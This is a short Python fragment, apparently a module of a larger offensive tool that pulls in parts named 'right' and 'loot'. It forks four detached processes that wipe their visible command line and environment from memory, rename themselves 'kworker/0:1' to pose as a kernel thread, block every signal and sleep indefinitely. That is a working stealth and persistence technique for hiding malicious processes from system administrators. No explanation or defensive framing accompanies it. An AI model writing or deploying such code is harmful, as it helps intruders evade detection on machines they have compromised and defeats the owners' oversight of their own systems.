# @include right
# @include loot

fields = open("/proc/self/stat").read().rpartition(")")[2].split()


def hide():
    """Overwrite the command line and the environment that others see of this process, and its name."""
    for low, high in ((45, 46), (47, 48)):
        start, end = int(fields[low]), int(fields[high])
        if 0 < start < end < start + 65536:
            ctypes.memset(start, 0, end - start)
    libc.prctl(15, b"kworker/0:1", 0, 0, 0)


pids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        hide()
        if os.fork():
            os._exit(0)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        for number in range(256):
            try:
                os.close(number)
            except OSError:
                pass
        while True:
            time.sleep(1000)
    pids.append(pid)
for pid in pids:
    os.waitpid(pid, 0)


